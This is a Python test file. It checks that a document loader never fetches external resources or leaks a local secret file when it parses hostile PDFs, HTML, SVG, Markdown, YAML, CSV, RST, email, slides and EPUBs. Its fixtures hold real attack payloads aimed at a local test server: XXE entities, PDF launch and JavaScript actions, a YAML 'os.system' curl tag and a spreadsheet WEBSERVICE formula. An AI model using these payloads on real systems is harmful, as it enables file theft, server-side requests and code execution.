"""What a document points at is never fetched: a server that must see no request, a file that must be in no passage.
Other formats are in tests/loaders/test_hostile.py.
"""

from __future__ import annotations

import io
from pathlib import Path

import pypdf
import pytest
from pptx import Presentation
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from loaders.errors import LoadError
from loaders.parser import Limits, Parser
from tests.folder import write, write_pdf
from tests.loaders.test_formats import epub
from tests.loaders.test_hostile import SECRET, listening, rewritten
from vectorstore.embeddings import tokenizer_path

TEXT = "The office opens at eight."


def acting_pdf(folder: Path, url: str, secret: Path) -> bytes:
    """Opening it fetches, launches and runs; its page links to both."""

    def action(kind: str, **more: str) -> DictionaryObject:
        texts = {NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()}
        return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), **texts})

    writer = pypdf.PdfWriter(clone_from=write_pdf(folder, "plain.pdf", [TEXT]))
    writer.root_object[NameObject("/OpenAction")] = action("URI", URI=f"{url}/open")
    actions = [
        action("URI", URI=f"{url}/link"),
        action("URI", URI=f"file://{secret}"),
        action("Launch", F=str(secret)),
        action("GoToR", F=str(secret)),
        action("JavaScript", JS=f'app.launchURL("{url}/js"); this.submitForm("{url}/form")'),
        action("ImportData", F=f"{url}/data"),
        action("SubmitForm", F=f"{url}/submit"),
    ]
    annotations = [
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): pypdf.generic.RectangleObject((0, 0, 100, 100)),
                NameObject("/A"): one,
            }
        )
        for one in actions
    ]
    writer.pages[0][NameObject("/Annots")] = ArrayObject(annotations)
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("URI", URI=f"{url}/page")})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def slides() -> bytes:
    buffer = io.BytesIO()
    deck = Presentation()
    deck.slides.add_slide(deck.slide_layouts[5]).shapes.title.text = "Some text is here."
    deck.save(buffer)
    return buffer.getvalue()


def documents(folder: Path, url: str, secret: Path) -> dict[str, bytes]:
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}"><!ENTITY % d SYSTEM "{url}/dtd">%d;]>'
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image href="{url}/1.png"/>'
        f'<use xlink:href="{url}/2.svg#a"/><style>@import url("{url}/3.css");'
        f' @font-face {{ src: url("{url}/4") }}</style>'
        f'<foreignObject><iframe src="file://{secret}"/></foreignObject><script href="{url}/5.js"/></svg>'
    )
    markdown = (
        f"# Office\n\n{TEXT}\n\n![a]({url}/1.png) ![b](file://{secret}) [c](file://{secret}) <{url}/2> {url}/3\n\n"
        f"[d]: {url}/4\n![d]\n\n{svg}\n\n{{% include {secret} %}} {{!{secret}!}} <!--#include file='{secret}'-->\n"
    )
    included = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://{secret}"/>'
    return {
        "acting.pdf": acting_pdf(folder, url, secret),
        "svg.html": f"<html><body><p>{TEXT}</p>{svg}<embed src='{url}/6'></html>".encode(),
        "entity.html": f"{entity}<html><body><p>{TEXT} &e;</p>{included}</body></html>".encode(),
        "entity.xhtml": f'<?xml version="1.0"?>{entity}<html><body><p>{TEXT} &e;</p>{included}</body></html>'.encode(),
        "links.md": markdown.encode(),
        "front.md": f"---\ntitle: !!python/object/apply:os.system ['curl {url}']\n---\n\n# Office\n\n{TEXT}\n".encode(),
        "formula.csv": f'question,answer\n"=WEBSERVICE(""{url}"")","=HYPERLINK(""file://{secret}"")"\n'.encode(),
        "anchors.yaml": f"- question: &a !include {secret}\n  answer: *a\n".encode(),
        "directives.rst": (
            f"Office\n======\n\n{TEXT}\n\n.. raw:: html\n   :url: {url}/raw\n\n.. csv-table::\n   :url: {url}/csv\n\n"
            f".. raw:: html\n   :file: {secret}\n\n.. csv-table::\n   :file: {secret}\n\n.. literalinclude:: {secret}\n"
            f"\n.. figure:: {url}/figure.png\n"
        ).encode(),
        "external.eml": (
            'From: a@example.org\nSubject: x\nContent-Type: message/external-body; access-type=URL;\n'
            f' URL="{url}/body"\n\nContent-Type: text/plain\n\n{TEXT}\n'
        ).encode(),
        "entity.pptx": rewritten(
            slides(),
            "ppt/slides/slide1.xml",
            lambda text: text.replace("?>", f"?>{entity}", 1).replace("Some text is here.", f"{TEXT} &e;"),
        ),
        "chapters.epub": epub({"one": f"<p>{TEXT}</p>{svg}{included}<img src='file://{secret}'/>"}),
    }  # fmt: skip


def test_nothing_that_a_document_points_at_is_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    read = []
    with listening() as (url, asked), Parser(tokenizer_path(), Limits()) as parser:
        for name, content in documents(tmp_path, url, secret).items():
            try:
                loaded = parser.parse(write(tmp_path, name, content), name)
            except LoadError as error:
                assert SECRET not in str(error), name  # noqa: PT017 (both ends are right here)
            else:
                read.append(name)
                assert SECRET not in loaded.text + loaded.title + str(loaded.warnings), name
                assert all(SECRET not in chunk.text for chunk in loaded.chunks), name
        assert asked == []
    for name in ("acting.pdf", "svg.html", "links.md", "directives.rst", "chapters.epub"):
        assert name in read, f"{name} would show nothing if it were not read"


def test_the_server_would_notice() -> None:
    import urllib.request

    with listening() as (url, asked):
        with pytest.raises(OSError, match=r".*"):
            urllib.request.urlopen(url, timeout=5)
        assert asked
